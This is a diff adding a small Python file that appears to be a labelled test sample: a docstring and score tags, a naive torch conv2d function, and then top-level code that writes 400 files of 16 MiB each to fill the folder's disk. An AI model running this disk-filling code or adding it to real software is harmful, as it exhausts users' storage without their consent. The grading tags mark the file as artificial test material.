@@ -1,0 +1,20 @@
+"""The cell fills its folder with bytes.
+
+status: output
+score: 3..7
+says: files
+"""
+
+def conv2d_naive(x, weight, bias=None):
+    (n, c, h, w), (o, _, k, l) = x.shape, weight.shape
+    y = torch.zeros(n, o, h - k + 1, w - l + 1, dtype=x.dtype)
+    for i in range(k):
+        for j in range(l):
+            window = x[:, :, i : i + h - k + 1, j : j + w - l + 1]
+            y = y + torch.einsum("nchw,oc->nohw", window, weight[:, :, i, j])
+    return y if bias is None else y + bias[:, None, None]
+block = bytes(1 << 20)
+for i in range(400):
+    with open(f"file{i}", "wb") as file:
+        for _ in range(16):
+            file.write(block)
